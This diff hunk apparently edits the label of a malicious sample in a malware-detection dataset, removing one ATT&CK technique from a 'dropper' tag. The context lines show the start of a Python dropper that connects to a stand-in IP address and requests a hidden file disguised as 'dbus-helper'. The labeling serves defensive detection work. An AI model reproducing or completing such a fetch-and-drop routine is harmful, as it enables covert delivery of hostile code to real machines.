@@ -1,4 +1,4 @@
-# label: malicious family=dropper techniques=T1105,T1222.002,T1059.004,T1564.001 lines=3-9
+# label: malicious family=dropper techniques=T1105,T1222.002,T1564.001 lines=3-9
 import http.client, os
 c = http.client.HTTPConnection("192.0.2.66", 80)
 c.request("GET", "/.x/dbus-helper")
